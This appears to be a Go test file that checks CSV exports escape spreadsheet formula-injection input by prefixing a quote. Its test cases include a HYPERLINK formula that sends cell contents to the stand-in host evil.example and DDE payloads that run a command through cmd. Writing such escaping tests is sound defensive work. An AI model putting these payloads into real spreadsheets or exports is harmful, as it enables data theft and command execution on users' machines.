package api_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/safezone/safezone/api"
	"github.com/safezone/safezone/geo"
	"github.com/safezone/safezone/geo/walk"
	"github.com/safezone/safezone/store"
)

func TestCSVCell(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"HYPERLINK", `=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"DDE", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"plus", `+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
		{"minus", `-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"at", `@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width at", "＠SUM(1)", "'＠SUM(1)"},
		{"lone minus", "-", "'-"},
		{"negative number", "-12.5", "-12.5"},
		{"signed number", "+3", "+3"},
		{"minus one", "-1", "-1"},
		{"text", "星空网吧", "星空网吧"},
		{"equals inside", "a=b", "a=b"},
		{"already quoted", "'=1", "'=1"},
		{"empty", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := api.CSVCell(tc.in); got != tc.want {
				t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestAudit_csvFormulas checks that a registered business whose name is a
// formula reaches the CSV exports, with and without coordinates in another
// system, as text: a single quote before it.
func TestAudit_csvFormulas(t *testing.T) {
	ts := MustServer(t)
	const name = `=HYPERLINK("http://evil.example","点击")`
	b := MustCreateBusiness(t, ts, store.RoleRegulator, `{"name":"=HYPERLINK(\"http://evil.example\",\"点击\")","category":"internet_cafe","lon":104.002,"lat":30.0015}`)
	for _, url := range []string{"/api/v1/audit?format=csv", "/api/v1/audit?format=csv&out_crs=GCJ-02"} {
		t.Run(url, func(t *testing.T) {
			rows := MustExport(t, ts, url, "", "text/csv; charset=utf-8")
			found := false
			for _, row := range rows {
				if row[0] == b.ID {
					found = true
					if row[1] != "'"+name {
						t.Errorf("feature_name %q, want %q", row[1], "'"+name)
					}
				}
			}
			if !found {
				t.Fatalf("no row for %s in %q", b.ID, rows)
			}
		})
	}
}

func TestWriteRouteWaterCSV_formulas(t *testing.T) {
	var buf bytes.Buffer
	water := []walk.Water{{RouteID: "+route", Water: geo.Feature{ID: "way/1", Name: "@SUM(1)", Kind: geo.WaterBody}, DistanceMeters: 1}}
	if err := api.WriteRouteWaterCSV(&buf, water); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[1][0] != "'+route" || rows[1][2] != "'@SUM(1)" || rows[1][4] != "1.000" {
		t.Errorf("rows %q, want the route ID and the water's name quoted", rows)
	}
}
